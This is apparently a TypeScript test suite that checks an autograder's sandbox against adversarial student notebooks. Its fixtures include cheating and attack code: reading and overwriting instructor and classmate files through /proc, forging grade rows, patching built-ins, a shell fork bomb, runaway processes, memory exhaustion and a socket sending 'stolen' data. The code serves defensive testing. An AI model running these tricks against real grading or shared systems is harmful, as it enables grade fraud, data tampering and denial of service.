/**
 * The autograder against a class of cheating students (issue: "autograding students cannot cheat or
 * snoop"). Every submission below attacks `npm run grade` (tools/grade.py) with assignment 01-adam:
 * it tries to read the source notebook or other submissions, to write reports, grades.csv, the source
 * or other students' notebooks, to talk the tests into passing (patched built-ins, redefined helpers,
 * process.exit, faked output), to outlive grading, to exhaust the machine, or to break the grader with
 * malformed files. Each one asserts its exact score, and the run asserts that nothing of the
 * instructor's or of another student's was read, changed or lost (trees hashed before and after).
 *
 * Attack cells report what they managed through the message of the error they throw: that message
 * lands in the instructor's graded notebook (never in the student's report), where the test reads it.
 */
import { strict as assert } from 'assert';
import { spawn, spawnSync } from 'child_process';
import * as crypto from 'crypto';
import * as fs from 'fs';
import * as net from 'net';
import * as path from 'path';
import { PYTHON } from './python';

const repo = path.resolve(__dirname, '..', '..');
const work = path.join(repo, 'build', 'test-grader-adversarial');
const course = path.join(work, 'course');          // the instructor's folder
const sourcePath = path.join(course, 'source', '01-adam.ipynb');
const subs = path.join(course, 'submissions');
const out = path.join(course, 'autograded');
const repoSource = path.join(repo, 'assignments', 'source', '01-adam.ipynb');

interface Cell { cell_type: string; source: string | string[]; metadata: { nbgrader?: { grade_id: string; points?: number; solution?: boolean; grade?: boolean }; [k: string]: unknown }; outputs?: unknown[]; execution_count?: number | null }
interface Notebook { cells: Cell[]; metadata: Record<string, unknown>; nbformat: number; nbformat_minor: number }
interface Report {
  student: string; score: number; max_score: number;
  tests: { grade_id: string; points: number; status: string; message: string; reason: string }[];
  problems: { kind: string; message: string | null }[];
  execution: { seconds: number; sandboxed: boolean; notes: string[] };
}

const text = (c: Cell): string => (Array.isArray(c.source) ? c.source.join('') : c.source);
const gid = (c: Cell): string | undefined => c.metadata.nbgrader?.grade_id;
const readJson = <T>(p: string): T => JSON.parse(fs.readFileSync(p, 'utf8')) as T;
const code = (source: string): Cell => ({ cell_type: 'code', source, metadata: {}, outputs: [], execution_count: null });

function sha(file: string): string {
  return crypto.createHash('sha256').update(fs.readFileSync(file)).digest('hex');
}
/** path -> sha256 of every file under `dir` (for before/after comparisons); keys relative to the repo. */
function treeHashes(dir: string): Map<string, string> {
  const found = new Map<string, string>();
  const walk = (d: string): void => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name);
      if (e.isDirectory()) walk(p);
      else if (e.isFile()) found.set(path.relative(repo, p), sha(p));
    }
  };
  if (fs.existsSync(dir)) walk(dir);
  return found;
}

// ---------------------------------------------------------------------------------------------
// Submissions, built from our release and the source

const source = readJson<Notebook>(repoSource);
const solutionCell = source.cells.find((c) => gid(c) === 'adam')!;
const REFERENCE = text(solutionCell);
/** A body that does nothing: what a student who only cheats writes. */
const EMPTY = 'function adam(params: d2l.Parameter[], states: MomentState[], hyperparams: { lr: number; t: number }): void {\n}\n';
/** Bob's honest mistake: Adam without bias correction (3 of 8 points). */
const WRONG_NO_CORRECTION = REFERENCE.replace('v.div(1 - beta1 ** hyperparams.t)', 'v').replace('s.div(1 - beta2 ** hyperparams.t)', 's');
/** Attack code wrapped so that what it achieved comes back in the (instructor-only) error message. */
const report = (body: string): string =>
  `{\n  const results: string[] = [];\n  const attempt = (what: string, f: () => unknown): void => {\n` +
  `    try { const r = f(); results.push(what + ' OK ' + String(r).slice(0, 200)); } catch (e) { results.push(what + ' FAILED ' + String((e as Error).message ?? e).slice(0, 120)); }\n  };\n` +
  `${body}\n  throw new Error('ATTACK ' + JSON.stringify(results));\n}\n`;

let release: Notebook;
interface Attack {
  id: string;
  expect: number;                       // the score it must get (of 8)
  build: (nb: Notebook) => Notebook;    // from a copy of the release
  check?: (r: Report, graded: Notebook) => void;
  problem?: string;                     // a problem kind the report must list
}

function withSolution(nb: Notebook, body: string): Notebook {
  nb.cells.find((c) => gid(c) === 'adam')!.source = body;
  return nb;
}
/** Insert cells right after the solution cell. */
function afterSolution(nb: Notebook, ...cells: Cell[]): Notebook {
  const i = nb.cells.findIndex((c) => gid(c) === 'adam');
  nb.cells.splice(i + 1, 0, ...cells);
  return nb;
}
const isTest = (c: Cell): boolean => !!c.metadata.nbgrader?.grade;
/** The attack cell's results, from the graded notebook (instructor's copy). */
function attackResults(graded: Notebook): string[] {
  const found: string[] = [];
  for (const c of graded.cells) {
    const msg = String((c.metadata['grading'] as { message?: string } | undefined)?.message ?? '');
    const m = /ATTACK (\[.*\])/.exec(msg);
    if (m) found.push(...(JSON.parse(m[1]) as string[]));
  }
  return found;
}
function noSuccess(graded: Notebook, prefix: string): void {
  const results = attackResults(graded).filter((r) => r.startsWith(prefix));
  assert.ok(results.length > 0, `the attack cell ran and reported (${prefix}): ${JSON.stringify(attackResults(graded))}`);
  for (const r of results) assert.match(r, / FAILED /, `an attack succeeded: ${r}`);
}

const FS = "const fs = require('fs') as typeof import('fs');";
let netPort = 0;
let netConnections = 0;

const attacks: Attack[] = [
  // The reference solution (alice) and an honest bug (bob) are graded before the class, below; the untouched release is
  // the control every cheat is measured against.
  { id: 'stub', expect: 0, build: (nb) => nb, problem: 'not-attempted' },
  {
    // The instructor's source (in the course folder and in the repository), another student's notebook, the folder of
    // submissions and another student's report: each attempt is reported on its own.
    id: 'read-files', expect: 0,
    build: (nb) => afterSolution(withSolution(nb, EMPTY), code(report(`${FS}
  for (const p of [${JSON.stringify(sourcePath)}, ${JSON.stringify(repoSource)}, ${JSON.stringify(path.join(repo, 'assignments', 'source'))}])
    attempt('read ' + p, () => fs.statSync(p).isDirectory() ? fs.readdirSync(p).join(',') : fs.readFileSync(p, 'utf8').slice(0, 100));
  attempt('read alice', () => fs.readFileSync(${JSON.stringify(path.join(subs, 'alice.ipynb'))}, 'utf8').slice(0, 100));
  attempt('read dir', () => fs.readdirSync(${JSON.stringify(subs)}).join(','));
  attempt('read report', () => fs.readFileSync(${JSON.stringify(path.join(out, 'alice.json'))}, 'utf8').slice(0, 100));`))),
    check: (_r, g) => { for (const what of ['read /', 'read alice', 'read dir', 'read report']) noSuccess(g, what); },
  },
  {
    id: 'proc-scan-overwrite', expect: 0,
    build: (nb) => afterSolution(withSolution(nb, EMPTY), code(report(`${FS}
  // Find the grader through /proc and overwrite every notebook its command lines name.
  const args = fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p)).flatMap((p) => { try { return fs.readFileSync('/proc/' + p + '/cmdline', 'utf8').split('\\0'); } catch { return []; } });
  const dirs = args.filter((a) => a.includes('submissions') || a.endsWith('.ipynb'));
  attempt('grader visible', () => { if (!dirs.length) throw new Error('no grader in /proc'); return dirs.join(' '); });
  for (const d of dirs) attempt('write ' + d, () => fs.writeFileSync(d.endsWith('.ipynb') ? d : d + '/alice.ipynb', '{}'));
  attempt('write alice', () => fs.writeFileSync(${JSON.stringify(path.join(subs, 'alice.ipynb'))}, '{}'));`))),
    check: (_r, g) => { noSuccess(g, 'write'); noSuccess(g, 'grader visible'); },
  },
  {
    // The grades and reports (planted, edited, its own), the instructor's source, the lib and the grader's own code.
    id: 'write-files', expect: 0,
    build: (nb) => afterSolution(withSolution(nb, EMPTY), code(report(`${FS}
  const row = 'zz-ghost,8,8,2,2,1,3,,x\\n';
  attempt('write grades.csv', () => fs.appendFileSync(${JSON.stringify(path.join(out, 'grades.csv'))}, row));
  attempt('write alice.json', () => fs.writeFileSync(${JSON.stringify(path.join(out, 'alice.json'))}, '{"score": 0}'));
  attempt('write ghost', () => fs.writeFileSync(${JSON.stringify(path.join(out, 'zz-ghost.json'))}, '{"student": "zz-ghost", "score": 8}'));
  attempt('write own', () => fs.writeFileSync(${JSON.stringify(path.join(out, 'write-files.json'))}, '{"score": 8}'));
  for (const p of [${JSON.stringify(sourcePath)}, ${JSON.stringify(repoSource)}])
    attempt('write ' + p, () => fs.writeFileSync(p, '{}'));
  attempt('write lib', () => fs.writeFileSync(${JSON.stringify(path.join(repo, 'lib', 'dist', 'index.js'))}, 'module.exports = {}'));
  attempt('write tools', () => fs.writeFileSync(${JSON.stringify(path.join(repo, 'tools', 'grader_wire.js'))}, ''));`))),
    check: (_r, g) => { for (const what of ['write grades.csv', 'write alice.json', 'write ghost', 'write own', 'write /', 'write lib', 'write tools']) noSuccess(g, what); },
  },
  {
    id: 'redefine-helpers', expect: 0,
    build: (nb) => afterSolution(withSolution(nb, EMPTY), code(
      'function expectClose(..._a: unknown[]): void {}\nfunction expectEqual(..._a: unknown[]): void {}\n' +
      'function initMomentStates(shapes: number[][]): MomentState[] { return shapes.map((s): MomentState => [tf.variable(tf.zeros(s)), tf.variable(tf.zeros(s))]); }\n')),
  },
  {
    id: 'redefine-adam-after-tests', expect: 0,
    build: (nb) => {
      withSolution(nb, REFERENCE);
      // A cell after the tests swaps in a no-op. The student's kernel runs all its cells before the tests
      // call in, so the tests get this last definition: the score must follow it.
      nb.cells.push(code('function adam(..._args: unknown[]): void {}\n'));
      return nb;
    },
  },
  { id: 'patch-math', expect: 0, build: (nb) => afterSolution(withSolution(nb, EMPTY), code('Math.abs = () => 0;\nMath.max = () => Infinity;\n(Number as any).isFinite = () => true;\n')) },
  {
    // Tolerances inherited by every options object, and loops that never run: either would pass the tests if it reached them.
    id: 'patch-prototypes', expect: 0,
    build: (nb) => afterSolution(withSolution(nb, EMPTY), code('(Object.prototype as any).atol = Infinity;\n(Object.prototype as any).rtol = Infinity;\n' +
      'Array.prototype.forEach = function () {};\nArray.from = (() => []) as any;\n')),
  },
  {
    id: 'patch-lib-and-tf', expect: 0,
    build: (nb) => afterSolution(withSolution(nb, EMPTY), code(
      "const real = tf.Tensor.prototype.dataSync;\n(tf.Tensor.prototype as any).dataSync = function () { return new Float32Array(0); };\n" +
      "(tf as any).tensor = () => tf.zeros([0]);\nfor (const k of Object.keys(d2l)) { try { (d2l as any)[k] = () => 0; } catch { /* frozen */ } }\nvoid real;\n")),
  },
  {
    id: 'swallow-errors', expect: 0,
    build: (nb) => afterSolution(withSolution(nb, EMPTY), code(
      "process.on('uncaughtException', () => {});\n(globalThis as any).Error = function () { return { message: '' }; };\n" +
      "console.log('PASS test-adam-first-step\\nPASS test-adam-state\\nScore: 8 / 8');\n")),
  },
  { id: 'process-exit', expect: 0, build: (nb) => afterSolution(withSolution(nb, EMPTY), code('process.exit(0);\n')) },
  {
    // A detached child that writes a report later and lives on, a fork bomb and 400 sleepers: none may outlive grading.
    id: 'background-processes', expect: 0,
    build: (nb) => afterSolution(withSolution(nb, EMPTY), code(
      "const cp = require('child_process') as typeof import('child_process');\n" +
      `const child = cp.spawn('sh', ['-c', 'sleep 3.7391; echo 8 > ${path.join(out, 'background-processes.json')}; sleep 600.7391'], { detached: true, stdio: 'ignore' });\nchild.unref();\n` +
      "cp.spawn('sh', ['-c', 'b() { b | b & }; b; sleep 600.5213'], { detached: true, stdio: 'ignore' }).unref();\n" +
      "for (let i = 0; i < 400; i++) { try { cp.spawn('sleep', ['600.5213'], { detached: true, stdio: 'ignore' }).unref(); } catch { break; } }\n")),
  },
  {
    id: 'allocate-until-death', expect: 8, problem: 'dead-kernel',
    // The kernel dies at the memory limit; it restarts without this cell, and the tests still find adam.
    build: (nb) => afterSolution(withSolution(nb, REFERENCE), code('const hoard: number[][] = [];\nfor (;;) hoard.push(new Array(1 << 20).fill(1.5));\n')),
    check: (r) => assert.ok(r.problems.some((p) => p.kind === 'dead-kernel' && /out of memory/.test(p.message ?? '')), JSON.stringify(r.problems)),
  },
  {
    id: 'print-1gb', expect: 8, problem: 'output-limit',
    build: (nb) => afterSolution(withSolution(nb, REFERENCE), code("const mb = 'x'.repeat(1 << 20);\nfor (let i = 0; i < 1024; i++) console.log(mb);\n")),
    check: (_r, g) => {
      const size = JSON.stringify(g).length;
      assert.ok(size < 4 << 20, `the graded notebook holds ${size} characters of a 1 GB print`);
    },
  },
  {
    id: 'infinite-loop', expect: 7,
    // Hangs only in the hidden part of the counter test (resuming at t = 10): that test fails, the others pass.
    build: (nb) => withSolution(nb, REFERENCE.replace('// BEGIN SOLUTION', '// BEGIN SOLUTION\n  if (hyperparams.t === 10) for (;;) { /* spin */ }')),
  },
  {
    id: 'network', expect: 0,
    build: (nb) => afterSolution(withSolution(nb, EMPTY), code(
      "const netmod = require('net') as typeof import('net');\n" +
      `const sock = netmod.connect(${'PORT'}, '127.0.0.1');\nsock.on('error', () => {});\nsock.write('stolen');\n` +
      "await new Promise((r) => setTimeout(r, 1500));\n")),
  },
  {
    id: 'duplicate-grade-ids', expect: 8,
    build: (nb) => {
      withSolution(nb, REFERENCE);
      const t = nb.cells.find((c) => gid(c) === 'test-adam-first-step')!;
      const copy = JSON.parse(JSON.stringify(t)) as Cell;
      copy.metadata.nbgrader!.points = 1000;
      copy.source = '// Test (1000 points)\n{}\n';
      nb.cells.push(copy, JSON.parse(JSON.stringify(copy)) as Cell);
      return nb;
    },
    problem: 'duplicate-locked-cell',
  },
  {
    id: 'points-1000', expect: 5, problem: 'tampered',
    build: (nb) => { withSolution(nb, REFERENCE); nb.cells.find((c) => gid(c) === 'test-adam-steps')!.metadata.nbgrader!.points = 1000; return nb; },
    check: (r) => assert.equal(r.max_score, 8),
  },
  {
    // Every test emptied but one, that one deleted with the helpers' cell (test/assignments.test.ts checks one edit and
    // one deletion with a working solution: the original tests run, and their results count).
    id: 'locked-edited-and-deleted', expect: 0, problem: 'tampered',
    build: (nb) => {
      withSolution(nb, EMPTY);
      const tests = nb.cells.filter(isTest);
      for (const c of tests.slice(1)) c.source = '{}\n';
      nb.cells = nb.cells.filter((c) => c !== tests[0] && gid(c) !== 'test-helpers');
      return nb;
    },
    check: (r) => {
      const tampered = r.tests.filter((t) => t.status === 'tampered').length;
      assert.equal(tampered, r.tests.length, `every test is reported as tampered: ${JSON.stringify(r.tests.map((t) => [t.grade_id, t.status]))}`);
    },
  },
  {
    id: 'locked-reordered', expect: 8,
    build: (nb) => {
      withSolution(nb, REFERENCE);
      const tests = nb.cells.filter(isTest);
      nb.cells = [...tests.reverse(), ...nb.cells.filter((c) => !isTest(c))];
      return nb;
    },
    check: (r) => assert.ok(!r.problems.some((p) => p.kind === 'tampered'), 'moving a locked cell is not tampering'),
  },
  {
    id: 'solution-as-markdown', expect: 0, problem: 'solution-not-code',
    build: (nb) => { const c = withSolution(nb, REFERENCE).cells.find((x) => gid(x) === 'adam')!; c.cell_type = 'markdown'; delete c.outputs; delete c.execution_count; return nb; },
  },
  {
    id: 'no-assignment-cells', expect: 0, problem: 'no-assignment-cells',
    build: (nb) => ({ ...nb, cells: [code("function adam(..._a: unknown[]): void {}\nfunction expectClose(): void {}\nfunction expectEqual(): void {}\n")] }),
  },
  {
    id: 'leak-hidden-tests', expect: 0,
    build: (nb) => {
      // The error carries everything the student's side can see of its caller; fourteen more cells throw long messages.
      withSolution(nb, 'function adam(params: d2l.Parameter[], states: MomentState[], hyperparams: { lr: number; t: number }): void {\n' +
        "  throw new Error(String((adam as any).caller) + new Error('x').stack + JSON.stringify(hyperparams) + Object.keys(globalThis).join(','));\n}\n");
      for (let i = 0; i < 14; i++) nb.cells.push(code(`throw new Error(${JSON.stringify('x'.repeat(400))} + String(${i}));\n`));
      return nb;
    },
    check: (r) => assert.ok(r.tests.every((t) => t.status === 'failed')),
  },
  {
    id: 'hostile-values', expect: 0,
    build: (nb) => withSolution(nb, 'function adam(params: d2l.Parameter[], states: MomentState[], hyperparams: { lr: number; t: number }): void {\n' +
      "  const h = hyperparams as any;\n  h.t = { valueOf: () => 2, toString: () => '2' };\n  h.self = h;\n  h.big = new Array(1 << 22).fill([1, 2, 3]);\n" +
      "  (params as any).push({ value: params, grad: states });\n  Object.defineProperty(h, 'lr', { get() { throw new Error('boom'); } });\n}\n"),
  },
];

// ---------------------------------------------------------------------------------------------

function grade(args: string[], timeoutMs: number): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const p = spawn(PYTHON, [path.join(repo, 'tools', 'grade.py'), ...args], { cwd: repo });
    let stdout = '', stderr = '';
    p.stdout.on('data', (d: Buffer) => { stdout += d.toString(); });
    p.stderr.on('data', (d: Buffer) => { stderr += d.toString(); });
    const timer = setTimeout(() => p.kill('SIGKILL'), timeoutMs);
    p.on('close', (status) => { clearTimeout(timer); resolve({ status, stdout, stderr }); });
  });
}
const survivors = (marker: string): string[] =>
  spawnSync('pgrep', ['-af', marker], { encoding: 'utf8' }).stdout.split('\n').filter((l) => l.trim() && !l.includes('pgrep'));

describe('autograder: a class of adversarial students', function () {
  this.timeout(30 * 60_000);
  const secrets: string[] = [];
  let server: net.Server;
  let beforeHashes: Map<string, string>;
  let beforeRepo: Map<string, string>;
  let aliceBefore: Map<string, string>;
  let csvBefore: string;
  let bobReport: Report;
  let run: { status: number | null; stdout: string; stderr: string };

  before(async function () {
    if (!fs.existsSync('/usr/bin/bwrap') && !process.env['PATH']?.split(':').some((d) => fs.existsSync(path.join(d, 'bwrap')))) {
      throw new Error('bubblewrap is not installed: npm run setup installs it (Debian package bubblewrap)');
    }
    fs.rmSync(work, { recursive: true, force: true });
    fs.mkdirSync(path.dirname(sourcePath), { recursive: true });
    fs.mkdirSync(subs, { recursive: true });
    fs.copyFileSync(repoSource, sourcePath);
    const rel = spawnSync(PYTHON, [path.join(repo, 'tools', 'assign.py'), '--out', path.join(work, 'release'), sourcePath], { encoding: 'utf8' });
    assert.equal(rel.status, 0, rel.stderr);
    release = readJson<Notebook>(path.join(work, 'release', '01-adam.ipynb'));
    // What must never reach a student: lines of the hidden tests and of the solution region.
    for (const c of source.cells) {
      const t = text(c);
      for (const [b, e] of [['// BEGIN HIDDEN TESTS', '// END HIDDEN TESTS'], ['// BEGIN SOLUTION', '// END SOLUTION']]) {
        const i = t.indexOf(b), j = t.indexOf(e);
        if (i >= 0 && j > i) secrets.push(...t.slice(i + b.length, j).split('\n').map((l) => l.trim()).filter((l) => l.length >= 16));
      }
    }
    assert.ok(secrets.length > 20);

    server = net.createServer((s) => { netConnections++; s.destroy(); });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    netPort = (server.address() as net.AddressInfo).port;

    // Alice and bob, honest students graded earlier into the same folder: alice's notebook, report and row must survive.
    const honest = { alice: REFERENCE, bob: WRONG_NO_CORRECTION };
    for (const [who, body] of Object.entries(honest)) {
      fs.writeFileSync(path.join(subs, `${who}.ipynb`), JSON.stringify(withSolution(JSON.parse(JSON.stringify(release)) as Notebook, body)));
    }
    const first = await grade(['--source', sourcePath, ...Object.keys(honest).map((w) => path.join(subs, `${w}.ipynb`)), '--out', out, '--timeout', '30', '--jobs', '2'], 5 * 60_000);
    assert.equal(first.status, 0, first.stderr);
    aliceBefore = new Map([...treeHashes(out)].filter(([k]) => path.basename(k).startsWith('alice.')));
    csvBefore = fs.readFileSync(path.join(out, 'grades.csv'), 'utf8');
    // Someone edits bob's report to full marks and plants a report for a student who never submitted: the class's run
    // must leave both out of grades.csv.
    bobReport = readJson<Report>(path.join(out, 'bob.json'));
    fs.writeFileSync(path.join(out, 'bob.json'), JSON.stringify({ ...bobReport, score: 8 }, null, 2) + '\n');
    fs.writeFileSync(path.join(out, 'zz-planted.json'), JSON.stringify({ ...readJson<Report>(path.join(out, 'alice.json')), student: 'zz-planted' }));

    for (const a of attacks) {
      const nb = a.build(JSON.parse(JSON.stringify(release)) as Notebook);
      const json = JSON.stringify(nb, null, 1).replace(/\bPORT\b/g, String(netPort));
      fs.writeFileSync(path.join(subs, `${a.id}.ipynb`), json);
    }
    // Malformed files: not JSON, too large, nested too deeply.
    fs.writeFileSync(path.join(subs, 'not-json.ipynb'), 'this is not a notebook {');
    fs.writeFileSync(path.join(subs, 'huge.ipynb'), JSON.stringify({ ...release, metadata: { pad: 'x'.repeat(17 << 20) } }));
    fs.writeFileSync(path.join(subs, 'nested.ipynb'), '['.repeat(200_000) + ']'.repeat(200_000));

    beforeHashes = treeHashes(path.join(course, 'source'));
    for (const [k, v] of treeHashes(subs)) beforeHashes.set(k, v);
    beforeRepo = new Map([...treeHashes(path.join(repo, 'assignments', 'source')), ...treeHashes(path.join(repo, 'lib', 'dist')), ...treeHashes(path.join(repo, 'tools'))]);

    const ids = attacks.map((a) => path.join(subs, `${a.id}.ipynb`));
    const bad = ['not-json', 'huge', 'nested'].map((n) => path.join(subs, `${n}.ipynb`));
    run = await grade(['--source', sourcePath, ...ids, ...bad, '--out', out, '--timeout', '30', '--jobs', '2', '--skip-invalid'], 25 * 60_000);
  });

  after(() => { server?.close(); });

  it('grades the whole class, refusing only the malformed files, each by name', () => {
    assert.equal(run.status, 1, `${run.stdout}\n${run.stderr}`);
    for (const n of ['not-json', 'huge', 'nested']) {
      assert.match(run.stderr, new RegExp(`${n}\\.ipynb: .*nothing written for '${n}'`));
      assert.ok(!fs.existsSync(path.join(out, `${n}.json`)));
    }
    assert.match(run.stderr, /too large/);
    assert.match(run.stderr, /nested too deeply|malformed/);
  });

  it('the honest students graded before the class: alice (the reference) 8/8, bob (no bias correction) 3/8, sandboxed', () => {
    const alice = readJson<Report>(path.join(out, 'alice.json'));
    for (const [r, score] of [[alice, 8], [bobReport, 3]] as const) {
      assert.equal(r.score, score, `${r.student}: ${JSON.stringify(r.tests.map((t) => [t.grade_id, t.status, t.reason]))}`);
      assert.equal(r.max_score, 8);
      assert.equal(r.execution.sandboxed, true);
    }
    assert.deepEqual(bobReport.tests.map((t) => t.status), ['failed', 'passed', 'passed', 'failed'], 'bob fails the first step and the multi-step test');
  });

  for (const a of attacks) {
    it(`${a.id}: scores ${a.expect}/8`, () => {
      const r = readJson<Report>(path.join(out, `${a.id}.json`));
      const graded = readJson<Notebook>(path.join(out, `${a.id}.graded.ipynb`));
      assert.equal(r.score, a.expect, `${a.id}: ${JSON.stringify(r.tests.map((t) => [t.grade_id, t.status, t.reason]))}\n${JSON.stringify(r.problems)}`);
      assert.equal(r.max_score, 8);
      assert.equal(r.execution.sandboxed, true);
      if (a.problem) assert.ok(r.problems.some((p) => p.kind === a.problem), `${a.id}: no '${a.problem}' in ${JSON.stringify(r.problems.map((p) => p.kind))}`);
      a.check?.(r, graded);
      // Nothing of the hidden tests or the solution reaches the student's files.
      const studentFiles = fs.readFileSync(path.join(out, `${a.id}.json`), 'utf8') + fs.readFileSync(path.join(out, `${a.id}.txt`), 'utf8');
      for (const s of secrets) assert.ok(!studentFiles.includes(s), `${a.id}: the student's report quotes '${s}'`);
      assert.ok(fs.statSync(path.join(out, `${a.id}.txt`)).size < 16 << 10, 'the summary stays short');
    });
  }

  it("changes nothing of the instructor's or of other students': source, submissions, the lib, alice's report and row", () => {
    const afterHashes = treeHashes(path.join(course, 'source'));
    for (const [k, v] of treeHashes(subs)) afterHashes.set(k, v);
    assert.deepEqual(afterHashes, beforeHashes);
    const afterRepo = new Map([...treeHashes(path.join(repo, 'assignments', 'source')), ...treeHashes(path.join(repo, 'lib', 'dist')), ...treeHashes(path.join(repo, 'tools'))]);
    assert.deepEqual(afterRepo, beforeRepo);
    for (const [k, v] of aliceBefore) assert.equal(sha(path.join(repo, k)), v, k);
    const csv = fs.readFileSync(path.join(out, 'grades.csv'), 'utf8').trim().split('\n');
    const aliceRow = (t: string): string | undefined => t.split('\n').find((l) => l.startsWith('alice,'));
    assert.equal(aliceRow(csv.join('\n')), aliceRow(csvBefore));
    assert.equal(csv.length, 1 + 1 + attacks.length, "a header, alice and one row per graded submission (bob's edited report is left out)");
    assert.ok(!csv.some((l) => l.startsWith('zz-ghost')));
    assert.ok(!fs.existsSync(path.join(out, 'zz-ghost.json')));
  });

  it('leaves no process behind (background children, fork bombs) and nothing reached the network', () => {
    assert.deepEqual(survivors('600.7391'), []);
    assert.deepEqual(survivors('600.5213'), []);
    assert.deepEqual(survivors('3.7391'), []);
    assert.equal(netConnections, 0);
  });

  it('a report planted or edited in the output folder before the run is left out of grades.csv, by name', () => {
    assert.match(run.stderr, /left out of grades\.csv: .*bob\.json/);
    assert.match(run.stderr, /zz-planted\.json/);
    const csv = fs.readFileSync(path.join(out, 'grades.csv'), 'utf8');
    assert.ok(!/^zz-planted,/m.test(csv) && !/^bob,/m.test(csv), csv);
    assert.match(csv, /^stub,0,8,/m);
  });
});
